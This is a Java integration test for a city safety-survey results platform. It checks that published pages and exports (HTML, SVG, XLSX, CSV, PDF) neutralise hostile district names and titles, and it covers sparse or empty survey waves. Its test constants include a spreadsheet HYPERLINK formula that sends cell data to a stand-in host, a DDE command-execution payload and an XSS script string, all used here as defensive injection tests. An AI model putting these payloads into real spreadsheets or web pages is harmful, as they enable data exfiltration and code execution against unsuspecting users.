package de.defus.monitor.journey;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.defus.monitor.account.Role;
import de.defus.monitor.account.Staff;
import de.defus.monitor.export.format.CsvReader;
import de.defus.monitor.platform.database.TestDatabase;
import de.defus.monitor.response.importing.TestFiles;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;

/** Releases at the edge of what there is: hostile, endless and foreign names, hardly any data, and none. */
@QuarkusTest
@WithTestResource(TestDatabase.class)
class EdgeReleasesTest {

    private static final String FORMULA = "=HYPERLINK(\"https://boese.example/?\"&A1,\"Klick\")";
    private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MARKUP = "<script>alert(1)</script>\"'&amp;</th>";
    private static final String HEBREW = "שכונת הצפון";
    private static final String ARABIC = "حي الجنوب";
    private static final String ENDLESS = "Lang".repeat(125);

    /** A city with these districts and a survey. */
    private record Edge(Staff analyst, Staff admin, String slug, String survey) {

        static Edge with(List<String> districts, String title) {
            var analyst = Staff.ofNewCity();
            var slug = "rand-" + analyst.municipality().slug().replace("teststadt-", "");
            var features = IntStream.range(0, districts.size())
                    .mapToObj(index -> """
                            {"type":"Feature","properties":{"key":"K%1$d","name":%2$s,"code":%3$d},"geometry":
                            {"type":"Polygon","coordinates":[[[%1$d,50],[%1$d.9,50],[%1$d.9,50.9],[%1$d,50]]]}}""".formatted(index, json(districts.get(index)), index + 1))
                    .toList();
            analyst.request()
                    .contentType("application/geo+json")
                    .body(("{\"type\":\"FeatureCollection\",\"features\":" + features + "}")
                            .getBytes(StandardCharsets.UTF_8))
                    .put("/api/v1/districts")
                    .then()
                    .statusCode(200);
            var answer = analyst.request()
                    .contentType("application/json; charset=UTF-8")
                    .body("""
                            {"slug":"%1$s","titleGerman":%2$s,"titleEnglish":%2$s,
                             "questionnaireKey":"defus-monitor","questionnaireVersion":1,"minimumBase":10}""".formatted(slug, json(title)))
                    .post("/api/v1/surveys");
            assertEquals(201, answer.statusCode(), answer::asString);
            var location = answer.header("Location");
            var survey = location.substring(location.lastIndexOf('/') + 1);
            return new Edge(analyst, analyst.colleague(Role.CITY_ADMIN), slug, survey);
        }

        void population(int districts) {
            var csv = new StringBuilder("district,age_group,gender,persons\n");
            for (int district = 1; district <= districts; district++) {
                for (int age = 1; age <= 8; age++) {
                    csv.append("%d,%d,1,400\n%d,%d,2,500\n".formatted(district, age, district, age));
                }
            }
            analyst.request()
                    .contentType("text/csv")
                    .body(csv.toString())
                    .put("/api/v1/population")
                    .then()
                    .statusCode(200);
        }

        /** The wave of so many people who answered some questions. */
        String imported(int people, int districts, String title) {
            var chance = new SplittableRandom(people);
            var names = List.of(
                    "district",
                    "age_group",
                    "gender",
                    "safe_dark_neighbourhood",
                    "safe_place_parks",
                    "safe_place_public_transport",
                    "activities_restricted");
            var rows = new ArrayList<List<String>>();
            for (int person = 0; person < people; person++) {
                rows.add(List.of(
                        Integer.toString(1 + chance.nextInt(districts)),
                        Integer.toString(1 + chance.nextInt(8)),
                        Integer.toString(1 + chance.nextInt(2)),
                        Integer.toString(1 + chance.nextInt(5)),
                        Integer.toString(1 + chance.nextInt(5)),
                        Integer.toString(1 + chance.nextInt(5)),
                        Integer.toString(1 + chance.nextInt(2))));
            }
            var file = TestFiles.csv(
                    new TestFiles.Table(names, names.stream().map(name -> true).toList(), rows),
                    ',',
                    StandardCharsets.UTF_8);
            var answer = new ImportCity(analyst, slug, survey).send(file, Map.of("title", title));
            assertEquals(201, answer.statusCode(), answer::asString);
            return answer.path("wave.id");
        }

        Response release(String wave) {
            return analyst.request().contentType("application/json").post("/api/v1/waves/" + wave + "/release");
        }

        byte[] get(String path) {
            var answer = given().header("Accept-Language", "de").get(path);
            assertEquals(200, answer.statusCode(), () -> path + answer.asString());
            return answer.asByteArray();
        }

        String text(String path) {
            return new String(get(path), StandardCharsets.UTF_8);
        }

        String results(String page) {
            return "/ergebnisse/" + slug + page;
        }

        /** All that everybody can read of the newest release. */
        void lookThrough(int districts) throws IOException {
            for (var page : List.of(
                    "", "/methode", "/frage/safe_dark_neighbourhood", "/frage/safe_place_parks", "/bericht", "/orte")) {
                var html = Jsoup.parse(text(results(page)));
                assertTrue(html.select("main script").isEmpty(), page);
                assertFalse(html.text().contains("NaN"), page);
                assertFalse(html.text().contains("???"), page);
            }
            for (int district = 1; district <= districts; district++) {
                get(results("/gebiet/" + district));
            }
            for (var file : List.of("ergebnisse.json", "stadtteile.geojson")) {
                get("/daten/" + slug + "/welle-1/" + file);
            }
            get("/daten/" + slug + "/katalog.ttl");
            get("/daten/" + slug + "/katalog.jsonld");
            assertFalse(text("/api/v1/results/" + slug + "/waves/1").contains("NaN"));
            workbook();
            var paper = paper();
            assertTrue(paper.length() > 1000);
            assertFalse(paper.contains("???"), "letters that no font has");
            csv();
        }

        /** Texts of the workbook; no cell of it is a formula. */
        TreeSet<String> workbook() throws IOException {
            var texts = new TreeSet<String>();
            try (var book = new XSSFWorkbook(new ByteArrayInputStream(get(results("/tabellenband.xlsx"))))) {
                for (var sheet : book) {
                    for (var row : sheet) {
                        for (var cell : row) {
                            assertFalse(cell.getCellType() == CellType.FORMULA, cell::toString);
                            if (cell.getCellType() == CellType.STRING) {
                                texts.add(cell.getStringCellValue());
                            }
                        }
                    }
                }
            }
            return texts;
        }

        String paper() throws IOException {
            try (var pdf = Loader.loadPDF(get(results("/bericht.pdf")))) {
                return new PDFTextStripper().getText(pdf);
            }
        }

        /** Cells of the open data that a spreadsheet would not take for a formula. */
        List<List<String>> csv() {
            var rows = CsvReader.read(
                    text("/daten/" + slug + "/welle-1/ergebnisse.csv").replace("\uFEFF", ""));
            for (var row : rows) {
                for (var cell : row) {
                    var isNumber = cell.matches("-?[0-9.E-]+");
                    assertTrue(cell.isEmpty() || isNumber || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, cell);
                }
            }
            return rows;
        }

        private static String json(String text) {
            return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
        }
    }

    @Test
    void namesAreNamesWhateverTheyLookLike() throws Exception {
        var names = List.of(FORMULA, DDE, MARKUP, HEBREW, ARABIC, ENDLESS);
        var city = Edge.with(names, FORMULA);
        city.population(names.size());
        var wave = city.imported(600, names.size(), "+49 <b>2026</b>");
        assertEquals(200, city.release(wave).statusCode());
        city.lookThrough(names.size());

        var page = Jsoup.parse(city.text(city.results("/karte")));
        var rows = page.select("main table tbody th").eachText();
        for (var name : names) {
            assertTrue(rows.contains(name), name + " in " + rows);
            assertTrue(city.workbook().contains(name), name + " in the workbook");
            assertTrue(city.csv().stream().anyMatch(row -> row.contains(name) || row.contains("'" + name)), name);
        }
        assertTrue(page.select("main b").isEmpty());
        var paper = city.paper().replaceAll("\\s+", "");
        for (var name : List.of(FORMULA, DDE, HEBREW, ARABIC, ENDLESS)) {
            assertTrue(paper.contains(name.replaceAll("\\s+", "")), name + " on paper");
        }
        var svg = city.text(city.results("/karte/karte.svg"));
        assertFalse(svg.contains("<script"));
        javax.xml.parsers.DocumentBuilderFactory.newDefaultInstance()
                .newDocumentBuilder()
                .parse(new ByteArrayInputStream(svg.getBytes(StandardCharsets.UTF_8)));
        bundle(city, wave);
    }

    @Test
    void aCityOfOneDistrictIsReleased() throws Exception {
        var city = Edge.with(List.of("Das Ganze"), "Ein Stadtteil");
        city.population(1);
        var wave = city.imported(200, 1, "2026");
        assertEquals(200, city.release(wave).statusCode());
        city.lookThrough(1);
        bundle(city, wave);
    }

    @Test
    void aWaveWithoutWeightsIsReleasedAndSaysSo() throws Exception {
        var city = Edge.with(List.of("Nord", "Süd"), "Ohne Gewichte");
        var wave = city.imported(200, 2, "2026");
        assertEquals(200, city.release(wave).statusCode());
        city.lookThrough(2);
        assertTrue(Jsoup.parse(city.text(city.results("/methode")))
                .text()
                .toLowerCase()
                .contains("gewicht"));
        bundle(city, wave);
    }

    @Test
    void aWaveThatNobodyAnsweredIsReleasedWithoutFiguresOrRefusedWithAReason() throws Exception {
        for (var isWeighted : List.of(true, false)) {
            var city = Edge.with(List.of("Nord", "Süd"), "Niemand");
            if (isWeighted) {
                city.population(2);
            }
            var answer = city.analyst()
                    .request()
                    .contentType("application/json")
                    .body("{\"title\":\"2026\",\"sampling\":\"OPEN_ACCESS\"}")
                    .post("/api/v1/surveys/" + city.survey() + "/waves");
            var wave = answer.header("Location").replaceAll(".*/", "");
            step(city, wave, "open", "{\"link\":\"" + city.slug() + "\"}");
            step(city, wave, "close", "");
            assertEquals(
                    409,
                    city.analyst()
                            .request()
                            .get("/api/v1/waves/" + wave + "/release-preview")
                            .statusCode());
            var released = city.release(wave);
            assertEquals(409, released.statusCode(), released::asString);
            assertTrue(released.contentType().contains("problem+json"), released::asString);
            assertEquals(404, given().get(city.results("")).statusCode());
        }
    }

    @Test
    void hardlyAnybodyIsNoFigure() throws Exception {
        var city = Edge.with(List.of("Nord", "Süd"), "Zwölf");
        var wave = city.imported(12, 2, "2026");
        assertEquals(200, city.release(wave).statusCode());
        city.lookThrough(2);
    }

    @Test
    void anAddressForAnswersIsNeverUsedTwice() {
        var city = Edge.with(List.of("Nord"), "Adresse");
        var first = wave(city, "eins");
        var second = wave(city, "zwei");
        step(city, first, "open", "{\"link\":\"" + city.slug() + "\"}");
        step(city, first, "close", "");
        city.analyst()
                .request()
                .contentType("application/json")
                .body("{\"link\":\"" + city.slug() + "\"}")
                .post("/api/v1/waves/" + second + "/open")
                .then()
                .statusCode(409);
    }

    private static String wave(Edge city, String title) {
        return city.analyst()
                .request()
                .contentType("application/json")
                .body("{\"title\":\"" + title + "\",\"sampling\":\"OPEN_ACCESS\"}")
                .post("/api/v1/surveys/" + city.survey() + "/waves")
                .header("Location")
                .replaceAll(".*/", "");
    }

    private static void step(Edge city, String wave, String step, String body) {
        var request = city.analyst().request().contentType("application/json");
        (body.isEmpty() ? request : request.body(body))
                .post("/api/v1/waves/" + wave + "/" + step)
                .then()
                .statusCode(200);
    }

    /** The research bundle is made too. */
    private static void bundle(Edge city, String wave) {
        var path = "/api/v1/waves/" + wave;
        city.analyst()
                .request()
                .contentType("application/json")
                .body(Map.of("termsVersion", 1, "purpose", FORMULA))
                .post(path + "/research-terms")
                .then()
                .statusCode(200);
        city.analyst().request().get(path + "/research-bundle").then().statusCode(200);
    }
}
